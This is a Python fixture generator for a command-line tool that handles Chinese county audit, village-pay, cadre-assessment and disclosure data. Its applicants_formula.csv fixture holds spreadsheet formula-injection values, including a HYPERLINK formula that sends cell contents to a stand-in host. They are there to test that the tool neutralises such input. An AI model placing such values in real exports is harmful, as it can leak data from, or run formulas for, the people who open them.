#!/usr/bin/env python3
"""Writes the command line's test fixtures (run once; the outputs are committed).

Every expected answer in tests/cli/cli_tests.cmake is worked out by hand from these inputs and
the default profile, not taken from the program's output (see the comments there)."""
import csv, os

here = os.path.dirname(os.path.abspath(__file__))

def write(name, header, rows):
    with open(os.path.join(here, name), "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f, lineterminator="\n")
        w.writerow(header)
        w.writerows(rows)

# --- audit: the source's county, 67 units tiered 20 / 28 / 19 (HOLINGOL L46).
factors = ["admin_fees", "special_funds", "economic_power", "allocation_power", "attention",
           "complaints", "high_risk_sector", "special_need", "window_unit"]
units = []
def unit(i, budget, **f):
    units.append([f"U{i:02d}", f"示例单位{i:02d}", budget] + [f.get(k, "") for k in factors])
n = 0
for k in range(18):                      # high band (>= 5,000,000; U01 exactly on the limit) -> 1
    n += 1; unit(n, "5000000" if k == 0 else str(6000000 + 100000 * k))
n += 1; unit(n, "1000000", complaints=1)         # low band + complaints (weight 4) -> 1
n += 1; unit(n, "2000000", high_risk_sector=1)   # low band + high-risk sector (4) -> 1
for k in range(26):                      # middle band (3,000,000 ... < 5,000,000) -> 2
    n += 1; unit(n, "3000000" if k == 0 else str(3000000 + 70000 * k))
n += 1; unit(n, "800000", window_unit=1)          # low + window unit (2) -> 2
n += 1; unit(n, "900000", economic_power=1, allocation_power=1)  # low + 1 + 1 -> 2
for k in range(19):                      # low band (< 3,000,000), no factors -> 3
    n += 1; unit(n, "2999999.99" if k == 0 else str(100000 * (k + 1)))
assert n == 67
write("audit_units.csv", ["unit_id", "name", "budget"] + factors, units)

# --- village selection: 206 villages in three townships (100 / 60 / 46).
vs = []
for town, count, prefix in (("甲镇", 100, "J"), ("乙镇", 60, "Y"), ("丙苏木", 46, "B")):
    for i in range(1, count + 1):
        vs.append([f"{prefix}{i:03d}", f"{town}第{i}村", town, 800 + i])
write("villages_206.csv", ["village_id", "name", "township", "population"], vs)

# --- village pay: one township of ten villages, scores 95 ... 86 (all five scores equal).
pops = [2500, 1500, 1200, 1100, 1000, 900, 800, 700, 600, 500]
write("pay_villages.csv", ["village_id", "name", "township", "population"],
      [[f"V{i:02d}", f"示例村{i:02d}", "甲镇", pops[i - 1]] for i in range(1, 11)])
write("pay_scores.csv", ["village_id", "q1", "q2", "q3", "q4", "annual"],
      [[f"V{i:02d}"] + [str(96 - i)] * 5 for i in range(1, 11)])
principals = [
    ["P01", "示例甲", "V01", "secretary", "2010-01-01", ""],
    ["P02", "示例乙", "V05", "both", "2012-03-01", ""],
    ["P03", "示例丙", "V10", "director", "2014-01-01", ""],
    ["P04", "示例丁", "V02", "director", "2016-07-01", ""],
]
write("pay_principals.csv", ["cadre_id", "name", "village_id", "post", "served_from", "served_to"], principals)
write("pay_principals_bad.csv", ["cadre_id", "name", "village_id", "post", "served_from", "served_to"],
      principals[:2] + [["P05", "示例戊", "V03", "secretary", "2016-13-01", ""],
                        ["P06", "示例己", "V99", "secretary", "2015-01-01", ""]] + principals[2:])

# --- the vocabulary: the same pay inputs as a county office writes them (dates as Excel shows
# them, the principal's post in Chinese, periods in Chinese in the long score layout), and the
# long layout in canonical spelling; both must pay exactly as pay_principals.csv / pay_scores.csv.
write("pay_principals_vocab.csv", ["cadre_id", "name", "village_id", "post", "served_from", "served_to"], [
    ["P01", "示例甲", "V01", "书记", "2010/1/1", ""],
    ["P02", "示例乙", "V05", "一肩挑", "2012年3月1日", " "],
    ["P03", "示例丙", "V10", "主任", "2014.1.1", ""],
    ["P04", "示例丁", "V02", "director", "20160701", ""],
])
write("pay_scores_long.csv", ["village_id", "period", "score"],
      [[f"V{i:02d}", p, str(96 - i)] for i in range(1, 11)
       for p in ("2016Q1", "2016Q2", "2016Q3", "2016Q4", "2016")])
write("pay_scores_long_vocab.csv", ["village_id", "period", "score"],
      [[f"V{i:02d}", p, str(96 - i)] for i in range(1, 11)
       for p in ("2016年第一季度", "2016年二季度", "2016年第3季度", "2016q4", "2016年")])
# audit units with 是/否 and text levels, and the same units in canonical 1/0 (HOLINGOL.1:
# complaints 4, high-risk sector 4, window unit 2, each power 1; level 1 from 4 points, 2 from 2)
write("audit_units_vocab.csv", ["unit_id", "name", "budget"] + factors, [
    ["U1", "甲", "1000000", "", "", "", "", "", "是", "否", "", ""],
    ["U2", "乙", "1000000", "", "", "2", "", "", "否", "", "", "TRUE"],
    ["U3", "丙", "1000000", "", "", "", "", "", "否", "false", "", "否"],
])
write("audit_units_maybe.csv", ["unit_id", "budget", "complaints"], [["U1", "1000000", "也许"]])
write("audit_units_canonical.csv", ["unit_id", "name", "budget"] + factors, [
    ["U1", "甲", "1000000", "", "", "", "", "", "1", "0", "", ""],
    ["U2", "乙", "1000000", "", "", "2", "", "", "0", "", "", "1"],
    ["U3", "丙", "1000000", "", "", "", "", "", "0", "0", "", "0"],
])

# --- village selection eligibility
write("applicants.csv", ["cadre_id", "post", "in_post_since", "birth_date", "grades"], [
    ["A1", "secretary", "2010-01-01", "1970-05-01", "2014:excellent;2015:basic"],
    ["A2", "director", "2015-06-01", "1970-05-01", ""],
    ["A3", "both", "2008-01-01", "1950-01-01", ""],
    ["A4", "secretary", "2008-01-01", "1975-01-01", "2015:unqualified"],
])

# --- assessment screening (the same records under the library's column name `method`, and the
# command line's former `methods`)
_records = [
    ["C1", "T1", "township", "annual", "2015", "61.5", "10", "10", "", "reports;talks"],
    ["C1", "T1", "township", "annual", "2016", "60", "10", "10", "", ""],
    ["C2", "T2", "township", "annual", "2015", "80", "5", "10", "", ""],
    ["C2", "T2", "township", "annual", "2016", "59", "10", "10", "", ""],
    ["C3", "D1", "department", "annual", "2015", "", "", "", "称职", ""],
    ["C3", "D1", "department", "annual", "2016", "", "", "", "不称职", ""],
    ["C4", "D2", "department", "party_conduct", "2015", "", "", "", "未达标", ""],
    ["C4", "D2", "department", "party_conduct", "2016", "", "", "", "not_up_to_standard", ""],
    ["C9", "D9", "department", "yearly", "2016", "", "", "", "", ""],
]
_columns = ["cadre_id", "unit_id", "domain", "kind", "period", "score", "rank", "group_size", "rating"]
write("assessment_records.csv", _columns + ["methods"], _records)
write("assessment_records_method.csv", _columns + ["method"], _records)
write("assessment_findings.csv",
      ["id", "cadre_id", "unit_id", "date", "source", "standard", "aspect", "classification", "severity", "facts"], [
    ["F1", "C2", "T2", "2016-06-01", "qualitative", "ability", "ability", "lack_of_ability", "moderate", "（事实从不输出）"],
    ["F2", "C5", "T5", "2016-06-01", "qualitative", "ability", "ability", "exploratory_mistake", "moderate", ""],
])
# A standard that is not in the catalogue (line 3): that row is reported, the others screened.
write("assessment_findings_bad.csv",
      ["id", "cadre_id", "unit_id", "date", "source", "standard", "aspect", "classification", "severity", "facts"], [
    ["F1", "C2", "T2", "2016-06-01", "qualitative", "ability", "ability", "lack_of_ability", "moderate", ""],
    ["F3", "C5", "T5", "2016-06-01", "qualitative", "no_such_standard", "ability", "lack_of_ability", "moderate", ""],
])

# --- disclosure rounds: the golden windows counted by hand (tests/golden/disclosure_windows.csv)
write("disclosure_candidates.csv", ["id", "round", "rank", "posted"], [
    ["K1", "1", "fu_ke", "2016-09-30"],
    ["K2", "1", "zheng_ke", "2016-02-04"],
    ["K3", "2", "fu_ke", "2016-10-01"],
    ["K4", "2", "zheng_ke", "2016-02-08"],
])

# --- the applicants as Excel's "CSV UTF-8" writes them: byte-order mark and CRLF
with open(os.path.join(here, "applicants.csv"), encoding="utf-8") as f:
    text = f.read().replace("\n", "\r\n")
with open(os.path.join(here, "applicants_excel.csv"), "w", encoding="utf-8-sig", newline="") as f:
    f.write(text)

# --- the same applicants as Excel leaves a sheet it once used wider and longer: unnamed columns
# at the end of the header, rows padded with empty cells (some shorter than the header), a row
# of separators only, blank lines, no newline after the last row
with open(os.path.join(here, "applicants_excel_padded.csv"), "w", encoding="utf-8-sig", newline="") as f:
    f.write("cadre_id,post,in_post_since,birth_date,grades,,,\r\n"
            "A1,secretary,2010-01-01,1970-05-01,2014:excellent;2015:basic,,,\r\n"
            ",,,,,,,\r\n"
            "A2,director,2015-06-01,1970-05-01,,\r\n"
            "\r\n"
            "A3,both,2008-01-01,1950-01-01,\r\n"
            "A4,secretary,2008-01-01,1975-01-01,2015:unqualified,,")

# An unnamed column between named ones is no padding: the table is refused.
with open(os.path.join(here, "applicants_unnamed_column.csv"), "w", encoding="utf-8", newline="") as f:
    f.write("cadre_id,,post,in_post_since,birth_date,grades\nA1,x,secretary,2010-01-01,1970-05-01,\n")

# Cadre ids a spreadsheet would run as formulas: echoed to the output CSV, they must arrive as text.
write("applicants_formula.csv", ["cadre_id", "post", "in_post_since", "birth_date", "grades"], [
    ["=HYPERLINK(\"http://example.invalid/\"&A1)", "secretary", "2010-01-01", "1970-05-01", ""],
    ["+1+1", "secretary", "2010-01-01", "1970-05-01", ""],
    ["@SUM(A1)", "secretary", "2010-01-01", "1970-05-01", ""],
    ["-2", "secretary", "2010-01-01", "1970-05-01", ""],
])

# --- disclosure: the golden record with two planted problems (an area of 0, an unknown holder)
import json, re
golden = os.path.join(here, "..", "golden")
r = json.load(open(os.path.join(golden, "disclosure_record.json"), encoding="utf-8"))
r["matters"]["real_estate"]["items"][0]["area"] = "0"
r["matters"]["real_estate"]["items"][0]["holder"] = "f9"
json.dump(r, open(os.path.join(here, "disclosure_record_bad.json"), "w", encoding="utf-8"), ensure_ascii=False, indent=1)

# --- .lrmx: the example with YYYY.MM dates and no ID number; and one with an unreadable birth date
x = open(os.path.join(golden, "disclosure_lrmx_example.xml"), encoding="utf-8").read()
d = x
for tag in ["ChuShengNianYue", "RuDangShiJian", "CanJiaGongZuoShiJian"]:
    d = re.sub(r"<%s>(\d{4})(\d{2})</%s>" % (tag, tag), r"<%s>\1.\2</%s>" % (tag, tag), d)
for tag in ["JiSuanNianLingShiJian", "TianBiaoShiJian"]:
    d = d.replace("<%s>20260301</%s>" % (tag, tag), "<%s>2026.03.01</%s>" % (tag, tag))
d = d.replace("<!-- FICTITIOUS DATA ONLY.", "<!-- FICTITIOUS DATA ONLY. The example form with YYYY.MM dates (tests/cli).")
d = d.replace("<ShenFenZheng>150502197812186440</ShenFenZheng>", "<ShenFenZheng></ShenFenZheng>")
open(os.path.join(here, "lrmx_dotted.lrmx"), "w", encoding="utf-8").write(d)
b = x.replace("<ShenFenZheng>150502197812186440</ShenFenZheng>", "<ShenFenZheng></ShenFenZheng>")
b = b.replace("<ChuShengNianYue>197812</ChuShengNianYue>", "<ChuShengNianYue>约1978年</ChuShengNianYue>")
open(os.path.join(here, "lrmx_bad.lrmx"), "w", encoding="utf-8").write(b)

# --- the CSV reader: quoted cells (a comma, doubled quotes, a line break inside), CRLF line
# ends, a blank line, a row of separators only and cells with outer spaces; the same with a
# UTF-8 BOM; and a bad row after a cell of two lines (its error names the file's line 4).
quoting = ('unit_id,name,budget,complaints\r\n'
           'U1,"甲, ""一""",6000000,1\r\n'
           '\r\n'
           'U2,"乙\r\n二",3500000,\r\n'
           ',,,\r\n'
           'U3, 丙 ,100,0\r\n')
with open(os.path.join(here, "table_quoting.csv"), "wb") as f:
    f.write(quoting.encode())
with open(os.path.join(here, "table_quoting_bom.csv"), "wb") as f:
    f.write(b"\xef\xbb\xbf" + quoting.encode())
with open(os.path.join(here, "table_quoting_bad.csv"), "wb") as f:
    f.write('unit_id,name,budget\nU1,"多\n行",100\nU2,乙,abc\nU3,丙,100\n'.encode())
